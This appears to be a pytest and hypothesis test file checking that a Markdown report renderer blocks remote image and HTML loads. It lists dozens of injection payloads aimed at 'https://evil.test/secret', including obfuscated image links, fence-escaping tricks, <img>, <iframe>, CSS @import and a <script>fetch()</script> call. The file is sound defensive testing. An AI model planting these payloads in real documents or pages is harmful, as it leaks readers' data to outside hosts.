"""Images in a report: those of the run are shown, and no viewer of the report asks another machine for anything."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.rules_block import fence
from markdown_it.token import Token

from engine_stage import source
from explorer.reports.render import image_problem, reference, render, without_network
from explorer.workspace.workspace import Workspace

SOURCES = {identifier: source(identifier) for identifier in ("S1", "S2")}
TRAP = "https://evil.test/secret"
SMALL_TAG = re.compile(r"</?(?:br|sub|sup)\s*/?>", re.IGNORECASE)
PAYLOADS = (
    f"![]({TRAP})",
    f"![a chart]({TRAP})",
    f'![a]( {TRAP} "title")',
    f"![a](<{TRAP}>)",
    "![a](//evil.test/x)",
    "![a](\\\\evil.test/x)",
    "![a](&#104;ttps://evil.test/x)",
    "![a](https&colon;//evil.test/x)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    f"Look!![a]({TRAP})",
    f"![a][r]\n\n[r]: {TRAP}",
    f"![r][]\n\n[r]: {TRAP}",
    f"![r]\n\n[r]: {TRAP}",
    f"Great![S1]\n\n[1]: {TRAP}",
    f"![a\nb]({TRAP})",
    f"![a](\n{TRAP}\n)",
    f"![outer ![inner]({TRAP})](analysis/points.png)",
    f"![a `b](analysis/points.png) ![c` d]({TRAP})",
    f'![a <b title="](analysis/points.png) c">]({TRAP})',
    f"\\\\![a]({TRAP})",
    f"\\`![a]({TRAP})\\`",
    f"`a\nb` ![x]({TRAP}) `c`",
    f"- `a\n- ![x]({TRAP})\n- b`",
    f"| `a | ![x]({TRAP}) | b` |\n|---|---|---|\n| 1 | 2 | 3 |",
    f"```a`b\n\n![x]({TRAP})\n\n```",
    f"- x\n  ```\n![x]({TRAP})\n  ```",
    f"> ```\n![x]({TRAP})\n> ```",
    f"```\ncode\n``` no end\n```\n![x]({TRAP})\n```",
    f"~~~~~\ncode\n~~~\n~~~~~\n![x]({TRAP})\n~~~",
    f"<div>\n```\n<img src={TRAP}>\n```\n</div>",
    f"<!--\n```\n-->\n![x]({TRAP})\n```\n",
    f"<?x@y>\n```\n<img src={TRAP}>\n```\n?>",
    f"<https:\x01![x]({TRAP})>",
    f"<img src={TRAP}>",
    f"<IMG\nSRC='{TRAP}'>",
    f"\\\\<img src={TRAP}>",
    f"[x](<img src={TRAP}>)",
    f"`<img src={TRAP}>\n`",
    f"\\`<img src={TRAP}>\\`",
    f"\\`<style>@import url({TRAP})</style>\\`",
    f"<style>@import url({TRAP})</style>",
    f"<script>fetch('{TRAP}')</script>",
    f"<iframe src={TRAP}></iframe>",
    f"<svg><image href={TRAP} /></svg>",
    f'<p style="background:url({TRAP})">x</p>',
    f"a<br>\n<video poster={TRAP}>",
    f"line\r![x]({TRAP})\r```\r![x]({TRAP})",
    f"| a |\n|---|\n~~~ |\n| ![x]({TRAP}) |",
    f"| a |\n|---|\n~~~ |\n\n~~~\n![x]({TRAP})\n~~~\n\n![x]({TRAP})\n\n~~~",
    f"> | a |\n> |---|\n> ``` |\n> | ![x]({TRAP}) |",
    f"- | a |\n  |---|\n  ~~~ |\n  | ![x]({TRAP}) |",
)


def viewers() -> Iterator[MarkdownIt]:
    """Viewers that differ in tables: they have none, a block of code ends one, or it is one of its rows."""
    yield MarkdownIt("commonmark").enable("strikethrough")
    yield MarkdownIt("commonmark").enable(["table", "strikethrough"])
    old = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    old.block.ruler.at("fence", fence, {"alt": ["paragraph", "reference", "list"]})
    yield old


def loaded(markdown: str) -> Iterator[str]:
    """What viewers with HTML switched on would load from elsewhere, or run."""

    def of(tokens: list[Token]) -> Iterator[str]:
        for token in tokens:
            if token.type == "image" and re.match(
                r"(?:[a-z][a-z0-9+.-]*:|//|/|\\)", str(token.attrs["src"]), re.IGNORECASE
            ):
                yield str(token.attrs["src"])
            if token.type in {"html_block", "html_inline"} and not SMALL_TAG.fullmatch(token.content):
                yield token.content
            yield from of(token.children or [])

    for viewer in viewers():
        yield from of(viewer.parse(markdown))


def at_once(markdown: str) -> list[str]:
    """The same, without tags that are nothing but a name, and comments: those may be code, and load nothing."""
    loading = re.compile(r"<(?:[a-z][a-z0-9-]*[\s/]+[^\s/>]|style|script)", re.IGNORECASE)
    return [found for found in loaded(markdown) if not found.startswith("<") or loading.search(found)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_report_loads_nothing_from_elsewhere(payload: str) -> None:
    """Whatever form an image or HTML has, wherever it hides: in the report it is a link or its own text."""
    assert at_once(render(f"Text [S1].\n\n{payload}\n", SOURCES, "en").text) == []


def test_the_control_loads(tmp_path: Path) -> None:
    """The same texts as they were written would be loaded, nearly all: those that hide best, only by some viewers."""
    would = [payload for payload in PAYLOADS if list(loaded(payload))]
    assert len(would) >= len(PAYLOADS) - 5, [payload for payload in PAYLOADS if payload not in would]
    assert list(tmp_path.iterdir()) == []


PIECES = """![ [ ] ]( ) ! a ` `` ``` ~~~ < > <b> <img src= /> \\ | - " //evil chart.png &#60; <!-- --> $""".split(" ")  # noqa: SIM905 - as a list it would take forty lines
pieces = st.sampled_from(
    [
        *PIECES,
        TRAP,
        f"![]({TRAP})",
        "\n| a |\n|---|\n",
        "\n~~~ |",
        "\n~~~\n",
        " ",
        "    ",
        "\t",
        "\n",
        "\n\n",
        "\r",
        "\n> ",
        "\n- ",
        "\n[r]: ",
    ]
)


@example("`a\nb` ![](//evil) `c`")
@given(st.lists(pieces, max_size=24).map("".join))
def test_nothing_that_is_thrown_together_loads(text: str) -> None:
    """Random heaps of everything that means something in Markdown load nothing either."""
    assert at_once(without_network(text)) == []


def test_images_of_the_run_stay_as_they_are() -> None:
    """A path beneath the report's folder is kept, with caption and citation; from elsewhere an image becomes a link."""
    draft = (
        '![Points per hour [S1]](analysis/points.png)\n\n![B](<a b.svg> "t") ![C](./c.png) ![D](https://x.test/d.png)\n'
        "![](//x.test/e) ![F](../other/f.png) ![G](/etc/g.png)"
    )
    assert render(draft, SOURCES, "en").text.startswith(
        '![Points per hour [1]](analysis/points.png)\n\n![B](<a b.svg> "t") ![C](./c.png) [D](https://x.test/d.png)\n'
        "[image](//x.test/e) [F](../other/f.png) [G](/etc/g.png)\n"
    )


def test_ordinary_prose_and_code_stay_as_they_are() -> None:
    """Blocks of code, comparisons, addresses, small tags and escapes are what they were."""
    text = (
        "a < b, x <3, 1<2, CO<sub>2</sub>, one<br>two, <https://example.com/a>, <a@example.com>, Wow! [x](y)\n"
        "[t](<https://example.com/a b>) `Vec<u8>` and `![x](y.png)` \\<b\\> \\![x](https://e.test)\n\n"
        f"```html\n<img src={TRAP}>\n![x]({TRAP})\n```\n\n~~~\n<b>\n~~~\nEnd."
    ).replace("a b>", "a>")
    assert without_network(text) == text
    assert without_network("Great![S1] <b>bold</b>") == "Great! [S1] &lt;b>bold&lt;/b>"


def test_an_address_of_a_source_is_no_image() -> None:
    """A page can have any address; in the list of references it shows nothing."""
    trapped = source("S1", url=f"https://x.test/![a]({TRAP})")
    assert "![" in reference(trapped)
    assert list(loaded(render("Said so [S1].", {"S1": trapped}, "en").text)) == []


def test_a_missing_image_is_pointed_out_and_rendered_as_words(tmp_path: Path) -> None:
    """The writer is told once each, in order; a report that has to end so says what is missing."""
    (tmp_path / ".explorer").mkdir()
    (tmp_path / "my chart.png").write_bytes(b"\x89PNG")
    has_file = Workspace(tmp_path).exists
    draft = (
        "![A](my%20chart.png) ![A](<my chart.png>) ![B](no.png) ![C](sub/no.svg) ![B](./no.png) ![](https://x.test/d)\n"
        "\n```\n![in code](nor.png)\n```\n"
    )
    assert image_problem(draft, has_file) == (
        "report.md shows <<no.png, sub/no.svg>>, which is not a file of this run; "
        "correct the path (list_files shows all files) or take the image out"
    )
    assert image_problem("![A](my%20chart.png)", has_file) == ""
    output = render(draft, SOURCES, "en", has_file).text
    assert output.startswith("![A](my%20chart.png) ![A](<my chart.png>) (image missing: B) (image missing: C)")
